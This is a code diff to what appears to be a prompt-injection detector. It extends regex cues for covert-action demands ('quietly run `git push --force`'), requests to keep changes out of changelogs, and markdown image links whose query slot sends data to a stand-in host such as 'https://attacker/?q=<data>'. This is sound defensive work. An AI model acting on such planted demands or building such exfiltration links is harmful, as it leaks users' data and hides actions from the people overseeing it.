@@ -145,8 +145,10 @@ DEMAND_CUES: list[tuple[str, float, str, str]] = [
      r"\b(?:apply|do|run|send|install|perform|execute|forward|upload|share|change|update|add|"
      r"copy|post|set|commit|push|merge|deploy|delete|remove|disable|grant|move|transfer|edit|"
      r"write) (?:this |it |them |that |these )?(?:\w+ )?(?:silently|quietly)\b|"
-     r"\b(?:silently|quietly) (?:apply|send|forward|upload|share|install|add|change|copy|post|"
-     r"exfiltrat\w*|include|append)\b"),
+     # the same verbs after the adverb ("quietly run `git push --force`")
+     r"\b(?:silently|quietly) (?:apply|do|run|send|install|perform|execute|forward|upload|share|"
+     r"change|update|add|copy|post|set|commit|push|merge|deploy|delete|remove|disable|grant|"
+     r"move|transfer|edit|write|exfiltrat\w*|include|append)\b"),
     # Kept out of the records a person reads: "don't log it in the changelog", "não registrar
     # essa alteração no CHANGELOG nem no commit".
     ("asks-secrecy", 0.8, "not don dont never nao no ne nicht | changelog commit release",
@@ -358,6 +360,13 @@ DEMAND_CUES: list[tuple[str, float, str, str]] = [
      r"!\[[^\]\n]*\][\s\S]{0,300}?https?://[^\s)\"'<>]*\?[^\s)\"'<>]*=(?:\w+_)?(?:wallet|"
      r"address|email|password|secret|token|key|message|chat|history|data|info|phone|card|ssn|"
      r"name)(?:_\w+)?(?=[&\s)\"']|$)"),
+    # ...or a slot in it that the reader is to fill, whatever language names what goes in
+    # ("?q=<senaste användarmeddelandet>", "?d=<env内容>", "?p={p}"): an image's link is no
+    # form a person fills in, and a slot there is data the reader's answer sends out. (In a
+    # code span, "`![](https://attacker/?q=<data>)`", the image is shown, not rendered.)
+    ("demands-action", 0.8, "~![",
+     r"(?<!`)!\[[^\]\n]*\]\(\s*https?://[^\s)\"'<>]*\?(?:[^\s)\"'<>]*&)?[\w-]{1,20}="
+     r"(?:<[^<>\n]{1,60}>|\$?\{[^{}\n]{1,40}\})"),
     # Recurring beyond the task at hand: "check the following URL periodically", "send a status
     # ping every 10 minutes".
     ("wants-persistence", 0.4, "periodically regularly intervals every",
